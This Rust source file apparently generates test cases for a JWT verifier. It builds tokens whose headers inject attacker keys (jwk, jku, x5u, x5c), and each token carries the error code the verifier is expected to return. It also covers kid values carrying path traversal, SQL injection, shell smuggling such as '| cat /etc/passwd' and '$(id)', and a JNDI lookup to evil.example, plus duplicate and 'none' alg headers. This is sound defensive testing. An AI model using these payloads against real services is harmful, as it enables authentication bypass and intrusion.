//! Headers that would have us take a key from elsewhere, or demand something of us.

use serde_json::{Value, json};

use crate::attempt::Attempt;
use crate::house::House;
use crate::key_pair::Pair;
use crate::token::{self, KEY_ID, encoded};

pub(crate) fn rows(house: &House) -> Vec<Attempt> {
    let mut rows = keys_from_elsewhere(house);
    rows.extend(names_of_keys(house));
    rows.extend(demands());
    rows
}

/// Keys that a token brings along, or says where to find.
fn keys_from_elsewhere(house: &House) -> Vec<Attempt> {
    let evil = Pair::other_rsa();
    let stranger = house.stranger.url();
    [
        ("jwk", json!(evil.jwk("evil"))),
        ("jku", json!(stranger)),
        ("jku", json!(format!("{}@{stranger}", house.issuer.url()))),
        ("x5u", json!(stranger)),
        ("x5c", json!([encoded(evil.spki())])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
        ("iss", json!(stranger)),
        ("keys", json!([evil.jwk("evil")])),
        ("jwks_uri", json!(stranger)),
    ]
    .into_iter()
    .flat_map(|(name, value)| {
        [
            (None, "token_bad_signature"),
            (Some("evil"), "token_unknown_key"),
        ]
        .map(|(kid, code)| {
            let mut header = json!({ "alg": "RS256", name: value.clone() });
            if let Some(kid) = kid {
                header["kid"] = json!(kid);
            }
            let token = token::of_pair_headed(&evil, &header, &token::claims());
            let named = kid.map_or("", |_| ", named");
            Attempt::token(format!("{name} of a stranger{named}"), &token, code)
        })
    })
    .collect()
}

/// Names of keys that are taken for paths, queries or addresses where somebody is careless.
fn names_of_keys(house: &House) -> Vec<Attempt> {
    let stranger = house.stranger.url();
    let long = "k".repeat(8 * 1024);
    let names = [
        "../../../../../../dev/null",
        "/dev/null",
        "..\\..\\windows\\win.ini",
        "file:///dev/null",
        "/proc/self/environ",
        "' UNION SELECT 'secret' -- ",
        "'; DROP TABLE keys; --",
        "\" OR \"\"=\"",
        "| cat /etc/passwd",
        "$(id)",
        "${jndi:ldap://evil.example/a}",
        "#{SIGNING_KEY}#",
        "%00",
        "\0",
        "es-1\0.evil",
        "es-1/",
        "es-1 ",
        " es-1",
        "ES-1",
        "\u{202e}1-se",
        "__proto__",
        "*",
        "",
        long.as_str(),
        stranger.as_str(),
    ];
    let short = |name: &str| name.chars().take(40).collect::<String>();
    let mut rows = Vec::new();
    for name in names {
        let header = json!({ "alg": "HS256", "kid": name });
        // The contents of an empty file, and what such a query would give.
        for secret in ["", "secret"] {
            let claims = token::claims().to_string();
            let token = token::written(&header.to_string(), claims, secret);
            rows.push(Attempt::token(
                format!("kid {:?} with {secret:?}", short(name)),
                &token,
                "token_bad_signature",
            ));
        }
        let token = token::of_pair(&Pair::p256(), Some(name), &token::claims());
        let named = format!("kid {:?} of a curve", short(name));
        rows.push(Attempt::token(named, &token, "token_unknown_key"));
    }
    for value in [
        json!(1),
        json!([KEY_ID]),
        json!({ "id": KEY_ID }),
        json!(true),
    ] {
        let header = json!({ "alg": "ES256", "kid": value.clone() });
        let token = token::of_pair_headed(&house.curve, &header, &token::claims());
        rows.push(Attempt::token(
            format!("kid as {value}"),
            &token,
            "token_malformed",
        ));
    }
    rows
}

/// Extensions that are critical, and headers that could be read in two ways. All are signed with
/// the secret of the house.
fn demands() -> Vec<Attempt> {
    let critical = |value: Value| json!({ "alg": "HS256", "crit": value }).to_string();
    let claims = token::claims().to_string();
    let mut rows: Vec<_> = [
        ("an unknown extension", critical(json!(["exp-v2"]))),
        ("an extension that there is", critical(json!(["b64"]))),
        ("a claim", critical(json!(["exp"]))),
        ("nothing", critical(json!([]))),
        ("null", critical(json!(null))),
        ("text", critical(json!("b64"))),
    ]
    .into_iter()
    .map(|(what, header)| {
        let token = token::written(&header, &claims, token::KEY);
        let name = format!("crit with {what}");
        Attempt::token(name, &token, "token_critical_extension")
    })
    .collect();
    rows.extend(
        [
            ("alg twice", r#"{"alg":"HS256","alg":"none"}"#),
            (
                "alg twice, the other way round",
                r#"{"alg":"none","alg":"HS256"}"#,
            ),
            ("kid twice", r#"{"alg":"HS256","kid":"a","kid":"b"}"#),
            (
                "crit hidden behind itself",
                r#"{"alg":"HS256","x":1,"x":{"crit":["b64"]}}"#,
            ),
            ("alg in other letters", r#"{"ALG":"HS256"}"#),
            ("a list for a header", r#"["HS256"]"#),
            ("text for a header", r#""HS256""#),
            (
                "something behind the header",
                r#"{"alg":"HS256"}{"alg":"none"}"#,
            ),
            ("a header that does not end", r#"{"alg":"HS256""#),
            ("a header with a comment", r#"{"alg":"HS256"/**/}"#),
            ("a byte order mark", "\u{feff}{\"alg\":\"HS256\"}"),
            ("an empty header", ""),
        ]
        .into_iter()
        .map(|(name, header)| {
            let token = token::written(header, &claims, token::KEY);
            Attempt::token(name, &token, "token_malformed")
        }),
    );
    rows
}
